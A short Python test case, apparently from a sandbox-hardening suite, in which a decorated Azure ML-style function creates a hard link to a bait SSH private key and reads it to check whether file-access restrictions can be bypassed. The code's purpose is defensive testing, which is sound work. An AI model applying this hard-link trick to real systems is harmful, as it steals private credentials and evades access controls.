"""Makes a hard link to the ssh key in its own folder, and reads that."""

import os

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.link(BAIT["ssh_key"], "key")
    return read("key")
